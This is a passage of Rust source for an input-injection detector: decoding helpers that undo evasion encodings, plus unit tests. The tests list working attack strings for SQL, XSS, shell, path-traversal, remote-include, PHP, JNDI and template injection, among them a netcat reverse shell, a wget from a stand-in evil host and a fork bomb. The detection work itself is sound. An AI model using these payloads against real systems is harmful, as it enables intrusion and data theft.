                let host = authority.rsplit(|c| *c == b'@').next().unwrap_or(authority);
                in_list(&["http", "https", "ftp", "ftps"], t.slice(scheme_start, p))
                    && (host.first() == Some(&b'[') || is_ip(host))
            })
    }

    fn is_ip(host: &[u8]) -> bool {
        let colons = host.iter().filter(|c| **c == b':').count();
        let v6 = colons >= 2 && host.iter().all(|c| c.is_ascii_hexdigit() || *c == b':');
        let name = host.split(|c| *c == b':').next().unwrap_or(host);
        let parts = name.split(|c| *c == b'.').count();
        let digits = !name.is_empty() && name.iter().all(|c| c.is_ascii_digit() || *c == b'.');
        v6 || (digits && (parts == 4 || (parts == 1 && name.len() >= 8)))
    }

    /// A bare URL ending in `?` (the RFI trick that turns an appended `.php` into a query).
    fn trailing_question(s: &Scan) -> bool {
        let v = trim_ascii(s.t.0);
        let tv = Text(v);
        v.last() == Some(&b'?')
            && !v.iter().any(u8::is_ascii_whitespace)
            && ["http://", "https://", "ftp://", "ftps://", "file:"]
                .iter()
                .any(|p| tv.starts_ci(0, p.as_bytes()))
    }

    /// `data:` URIs carrying a payload (`data:,…`, `data:text/plain;base64,…`).
    fn data_uri(s: &Scan) -> bool {
        let t = s.t;
        s.word(keywords::DATA) && {
            let mut from = 0;
            let mut hit = false;
            while let Some(p) = find_ci(t.0, b"data:", from) {
                from = p + 5;
                let rest = Text(t.slice(from, from + 64));
                let mime_ok = memchr::memchr(b',', rest.0).is_some_and(|c| {
                    rest.slice(0, c).iter().all(|x| {
                        x.is_ascii_alphanumeric()
                            || matches!(x, b'/' | b';' | b'=' | b'-' | b'+' | b'.')
                    })
                });
                let payload = rest.contains_ci(b"base64,")
                    || rest.at(0) == b','
                    || rest.starts_ci(0, b"text/")
                    || rest.starts_ci(0, b"application/");
                if t.word_start(p) && mime_ok && payload {
                    hit = true;
                    break;
                }
            }
            hit
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Decoding of leftover evasion layers
// ---------------------------------------------------------------------------------------------

mod decode {
    use super::*;

    /// One more decoding layer: percent (`%2e`, `%u002e`), HTML character references
    /// (`&#x3c;`, `&#0000060`, `&lt`, `&lbrace;`), JS escapes (`\u0027`, `\x3c`, `\u{61}`),
    /// full-width forms (`＜`) and typographic quotes (`‘ ’ ´` as `'`), NUL bytes dropped.
    /// `None` when nothing changed.
    pub fn peel(b: &[u8]) -> Option<Vec<u8>> {
        let t = Text(b);
        // `1'union+all+select+…`: a space-less value whose `+` were spaces one layer down.
        let plus_words = !b.contains(&b' ') && b.windows(3).any(|w| matches!(w, [x, b'+', y] if x.is_ascii_alphanumeric() || y.is_ascii_alphanumeric()));
        let first = (0..b.len()).find(|&i| {
            matches!(t.at(i), b'%' | b'&' | b'\\' | 0 | 0xEF | 0xE2 | 0xC2)
                && decode_at(t, i).is_some()
        });
        let first = match (first, plus_words) {
            (Some(f), _) => f,
            (None, true) => {
                return Some(
                    b.iter()
                        .map(|&c| if c == b'+' { b' ' } else { c })
                        .collect(),
                );
            }
            (None, false) => return None,
        };
        let mut out = Vec::with_capacity(b.len());
        out.extend_from_slice(t.slice(0, first));
        let mut changed = false;
        let mut percent = false;
        let mut i = first;
        while i < b.len() {
            let decoded = decode_at(t, i);
            percent |= decoded.is_some() && t.at(i) == b'%';
            match decoded {
                Some((cp, len)) => {
                    if let Some(cp) = cp {
                        push_char(&mut out, cp);
                    }
                    i += len;
                    changed = true;
                }
                None => {
                    out.push(t.at(i));
                    i += 1;
                }
            }
        }
        if percent || plus_words {
            // Double-encoded form data: `+` was a space one layer down.
            out.iter_mut()
                .filter(|c| **c == b'+')
                .for_each(|c| *c = b' ');
        }
        changed.then_some(out)
    }

    /// (code point to emit, bytes consumed), or `None` when nothing decodes at `i`.
    type Decoded = Option<(Option<u32>, usize)>;

    fn decode_at(t: Text, i: usize) -> Decoded {
        match t.at(i) {
            b'%' => percent_escape(t, i),
            b'&' => entity(t, i),
            b'\\' => js_escape(t, i),
            0 => Some((None, 1)),
            0xC2 | 0xE2 | 0xEF => {
                lookalike(t.slice(i, i + 3)).map(|(c, len)| (Some(u32::from(c)), len))
            }
            _ => None,
        }
    }

    fn percent_escape(t: Text, i: usize) -> Decoded {
        let two = t.slice(i + 1, i + 3);
        if two.len() == 2
            && let Some(v) = hex_value(two)
        {
            return Some((Some(v), 3));
        }
        let four = t.slice(i + 2, i + 6);
        (matches!(t.at(i + 1), b'u' | b'U') && four.len() == 4)
            .then(|| hex_value(four))
            .flatten()
            .map(|v| (Some(v), 6))
    }

    fn js_escape(t: Text, i: usize) -> Decoded {
        let (digits, len) = match t.at(i + 1) {
            b'u' | b'U' if t.at(i + 2) == b'{' => {
                let close = memchr::memchr(b'}', t.slice(i + 3, i + 10))?;
                (t.slice(i + 3, i + 3 + close), close + 4)
            }
            b'u' | b'U' => (t.slice(i + 2, i + 6), 6),
            b'x' | b'X' => (t.slice(i + 2, i + 4), 4),
            _ => return None,
        };
        let complete = !digits.is_empty() && (len > 6 || digits.len() == len - 2);
        complete
            .then(|| hex_value(digits))
            .flatten()
            .map(|v| (Some(v), len))
    }

    fn hex_value(d: &[u8]) -> Option<u32> {
        if d.is_empty() || d.len() > 6 {
            return None;
        }
        d.iter().try_fold(0u32, |acc, &c| {
            char::from(c).to_digit(16).map(|v| acc * 16 + v)
        })
    }

    fn push_char(out: &mut Vec<u8>, v: u32) {
        let ch = fold_char(char::from_u32(v).unwrap_or('\u{FFFD}'));
        let mut buf = [0u8; 4];
        out.extend_from_slice(ch.encode_utf8(&mut buf).as_bytes());
    }

    /// Full-width ASCII and typographic quotes fold to their ASCII originals.
    fn fold_char(ch: char) -> char {
        match ch {
            '\u{FF01}'..='\u{FF5E}' => char::from_u32(ch as u32 - 0xFEE0).unwrap_or(ch),
            '\u{2018}' | '\u{2019}' | '\u{201B}' | '\u{00B4}' | '\u{2032}' => '\'',
            '\u{201C}' | '\u{201D}' | '\u{2033}' => '"',
            _ => ch,
        }
    }

    /// A UTF-8 look-alike at the start of `s`, as (ASCII byte, encoded length).
    fn lookalike(s: &[u8]) -> Option<(u8, usize)> {
        let len = match s.first()? {
            0xC2 => 2,
            0xE2 | 0xEF => 3,
            _ => return None,
        };
        let ch = std::str::from_utf8(s.get(..len)?).ok()?.chars().next()?;
        let folded = fold_char(ch);
        (folded != ch && folded.is_ascii()).then_some((folded as u8, len))
    }

    /// An HTML character reference at `i` (numeric with any number of leading zeros, or one
    /// of the named references used in evasions; `;` optional).
    fn entity(t: Text, i: usize) -> Decoded {
        if t.at(i + 1) == b'#' {
            let hex = matches!(t.at(i + 2), b'x' | b'X');
            let start = i + 2 + usize::from(hex);
            let mut e = start;
            while e < start + 64
                && (if hex {
                    t.at(e).is_ascii_hexdigit()
                } else {
                    t.at(e).is_ascii_digit()
                })
            {
                e += 1;
            }
            let digits = t.slice(start, e);
            let first_nonzero = digits
                .iter()
                .position(|c| *c != b'0')
                .unwrap_or(digits.len().saturating_sub(1));
            let digits = digits.get(first_nonzero..).unwrap_or_default();
            let v = if hex {
                hex_value(digits)?
            } else {
                std::str::from_utf8(digits).ok()?.parse::<u32>().ok()?
            };
            return Some((Some(v), e - i + usize::from(t.at(e) == b';')));
        }
        #[rustfmt::skip]
        const NAMED: &[(&str, char)] = &[
            ("lbrace", '{'), ("rbrace", '}'), ("lcub", '{'), ("rcub", '}'), ("lpar", '('),
            ("rpar", ')'), ("lsqb", '['), ("rsqb", ']'), ("lbrack", '['), ("rbrack", ']'),
            ("colon", ':'), ("semi", ';'), ("newline", '\n'), ("tab", '\t'), ("sol", '/'),
            ("bsol", '\\'), ("dollar", '$'), ("num", '#'), ("excl", '!'), ("period", '.'),
            ("comma", ','), ("equals", '='), ("quot", '"'), ("apos", '\''), ("grave", '`'),
            ("lt", '<'), ("gt", '>'), ("amp", '&'), ("nbsp", ' '), ("percnt", '%'),
            ("ast", '*'), ("plus", '+'), ("verbar", '|'), ("vert", '|'), ("quest", '?'),
            ("commat", '@'), ("lowbar", '_'), ("hyphen", '-'),
        ];
        NAMED
            .iter()
            .find(|(name, _)| t.starts_ci(i + 1, name.as_bytes()))
            .map(|(name, ch)| {
                let end = i + 1 + name.len();
                (Some(*ch as u32), end - i + usize::from(t.at(end) == b';'))
            })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kind(s: &str) -> Option<&'static str> {
        detect(s).map(Injection::as_str)
    }

    fn assert_all(kind_name: &str, values: &[&str]) {
        for v in values {
            assert_eq!(kind(v), Some(kind_name), "{v:?} -> {:?}", detect_rule(v));
        }
    }

    #[test]
    fn sql_injections() {
        assert_all(
            "sql",
            &[
                "1' OR '1'='1",
                "' or 1=1-- ",
                "admin'--",
                "-1 UNION ALL SELECT NULL,NULL,password FROM users--",
                "1; DROP TABLE users; --",
                "1' and sleep(5)#",
                "'; waitfor delay '0:0:5'--",
                "1 AND 1=1",
                "x' or email like '%@%",
                "1' order by 3--",
                "foo') UNION ALL select NULL --",
                "SELECT * FROM users WHERE id = 1",
                "' or ‘1’=‘1",
                "x'|email--",
                "admin@juice-sh.op';",
                "1' and starts_with(password,'a')::int",
                "OR '{\"b\":2}' <@ '{\"a\":1}'",
                "username[$ne]",
                "sleep(",
                "1/**/union/*!50000select*/1",
                "%27%20or%201%3D1--",
            ],
        );
    }

    #[test]
    fn html_injections() {
        assert_all(
            "html",
            &[
                "<script>alert(1)</script>",
                "<img src=x onerror=alert(document.cookie)>",
                "\" onmouseover=\"alert(1)",
                "javascript:alert(1)",
                "ja\tvascript:alert(1)",
                "<svg/onload=alert()>",
                "&lt;script&gt;alert(1)&lt;/script&gt;",
                "＜script＞alert(1)＜/script＞",
                "[].sort.call`${alert}1337`",
                "window['alert'](document['cookie'])",
                "(![]+[])[+[]]",
            ],
        );
    }

    #[test]
    fn shell_injections() {
        assert_all(
            "shell",
            &[
                "; cat /etc/passwd",
                "x | nc 10.0.0.1 4444 -e /bin/sh",
                "$(whoami)",
                "`id`",
                "127.0.0.1 && wget http://evil.example/x.sh",
                "c'a't /etc/passwd",
                "c\\at /etc/pass\\wd",
                "cat${IFS}/etc/passwd",
                "{cat,/etc/passwd}",
                "/???/c?t /???/p??swd",
                "www.example.com;c$@at+/et$@c/pas$@swd",
                "time whoami",
                "|| ping -c 3 127.0.0.1",
                "a=nc&&$a -nlvp 555",
                "FOR /F \"tokens=*\" %G IN ('dir /b') DO echo %G",
                "IF EXIST C:\\pagefile.sys CMD",
                "() { :;}; echo pwned",
                ";iwr http://example.com/x.ps1",
                "powershell -enc AAAA",
                "; uname -a",
                "|whoami",
                "\r\nMAIL FROM:<a@b.com>",
                ":(){ :|:& };:",
            ],
        );
    }

    #[test]
    fn path_traversal() {
        assert_all(
            "path-traversal",
            &[
                "../../../etc/passwd",
                "..\\..\\windows\\win.ini",
                "/proc/self/environ",
                "....//....//etc/hosts",
                "WEB-INF/web.xml",
                "c:\\windows\\system32\\drivers\\etc\\hosts",
                "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
                "/.git/config",
                ".../.../WINDOWS/win.ini",
            ],
        );
    }

    #[test]
    fn remote_include() {
        assert_all(
            "remote-include",
            &[
                "http://10.0.0.1/x.txt",
                "https://[2001:db8::1]/shell.txt",
                "https://evil.example/shell.txt?",
                "gopher://127.0.0.1:6379/_x",
                "file:///etc/hostname",
                "data:text/plain;base64,PD9waHA=",
                "jar:http://evil.example/b.zip!/a",
            ],
        );
    }

    #[test]
    fn php_injections() {
        assert_all(
            "php",
            &[
                "<?php system($_GET['c']); ?>",
                "<?= `id` ?>",
                "php://filter/convert.base64-encode/resource=index.php",
                "O:8:\"stdClass\":1:{s:1:\"a\";i:2;}",
                "base64_decode('cGhwaW5mbygp')",
                "system('id');",
                "$f=$_GET['x'];$f('ls')",
                "eval /*x*/ ($code)",
                "$__[$_[1]](7)",
                "(system)('uname');",
                "'sys'.'tem'('id');",
                "shell.php5",
                "avatar.php.jpg",
                "sess_d8ew88tqmabdcokhumchy8htqm",
            ],
        );
    }

    #[test]
    fn java_injections() {
        assert_all(
            "java",
            &[
                "${jndi:ldap://evil.example/a}",
                "${${::-j}${::-n}${::-d}${::-i}:ldap://x/a}",
                "${${lower:j}ndi:rmi://x/a}",
                "$${env:x:-$}{jndi:ldap://x/a}",
                "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
                "java.lang.Runtime.getRuntime().exec('id')",
                "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
                "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ",
                "%24%7Bjndi%3Aldap%3A%2F%2Fx%7D",
                "&#36;{jndi:ldap://x/a}",
            ],
        );
        // Base64 of "runtime" from a 3-byte boundary: the fully determined characters.
        assert_eq!(keywords::base64_core(b"runtime", 0), "cnVudGltZ");
    }

    #[test]
    fn template_injections() {
        assert_all(
            "template",
            &[
                "{{7*7}}",
                "{{config.items()}}",
                "${7*7}",
                "#{7*7}",
                "<%= 7*7 %>",
                "{{''.__class__.__mro__}}",
                "{% import os %}{{ os.popen('id').read() }}",
            ],
        );
    }

    #[test]
    fn benign_free_text() {
        for s in [
            "I'd rather pay $5 than $10 (seriously).",
            "Mr. O'Brien's order #12345 arrived on 3/4/2024 at 10:30; great service!",
            "Works on Windows & Linux -- setup took 1-2 days.",
            "Is C++ better than C# for games? a/b testing says 50% yes.",
            "Email me at zoë.o'neil@example.com or see https://example.com/page?x=1&y=2",
            "\"Best purchase of the year\" -- Chloé, Montréal",
            "Select the size and color before adding to cart.",
            "Drop me a line; union members get 20% off.",
            "Drop table tennis practice; update: it's cancelled.",
            "Sleep 8 hours a day & drink water.",
            "Cat food, id card, and a new echo dot -- all for $49.99!",
            "Time flies when you're having fun!",
            "PS I love you. Find the cheapest flight & book it.",
            "is this your parents' or yours?",
            "Use 'or' instead of 'and' in the title, please.",
            "Set it to 'auto' and then 'on'.",
            "The 'quick start' guide isn't quick; 2/5 -- sorry.",
            "Update (March 9, 2023): still working after 9 months!",
            "I'm 5'10\" and 170 lbs; size M fits like an L.",
            "Ordered: 2017-08-11 | Shipped: 2017-08-12",
            "Order by phone or order by 6pm for same-day delivery.",
            "Saved it to C:\\Users\\Sam\\Documents\\review.docx",
            "Wget works under almost all Unix variants in use today.",
            "This is useful with a split terminal (think =emacs= or =tmux=).",
            "Das Produkt ist 20% günstiger – sehr zufrieden, danke!",
            "Очень хороший товар, доставка быстрая, рекомендую!",
            "とても良い商品でした。また買いたいです！",
            "Rock & roll; AT&T; R&D; Q&A; 5 > 3 and x < y.",
            "He said: ‘I’ll be there at 9:00’ — he wasn’t.",
            "Use code SAVE20; if x > 5 or y < 3 it's fine.",
            "My cat sits on the laptop all day, lol :) <3",
            "#blessed #tbt {{ not a template }} ${5} fee",
        ] {
            assert_eq!(detect(s), None, "{s:?} -> {:?}", detect_rule(s));
        }
    }

    #[test]
    fn limits_and_edges() {
        assert_eq!(detect(""), None);
        assert_eq!(detect("   "), None);
        // A payload beyond the scan limit is not seen; one at the start of a big value is.
        let mut big = "a ".repeat(SCAN_LIMIT);
        big.push_str("<script>alert(1)</script>");
        assert_eq!(detect(&big), None);
        let mut big2 = String::from("' or 1=1--");
        big2.push_str(&"x".repeat(1 << 20));
        assert_eq!(detect(&big2), Some(Injection::Sql));
        // Clipping never splits a multi-byte character; pathological inputs stay bounded.
        assert_eq!(detect(&"é".repeat(SCAN_LIMIT)), None);
        for unit in ["'", "(", "${", "/*", "%2", "&#", "\\u", "{,", "`", "$"] {
            let _ = detect(&unit.repeat(1 << 18));
        }
        assert_eq!(
            detect_rule("1' or '1'='1").map(|(k, _)| k),
            Some(Injection::Sql)
        );
    }
}
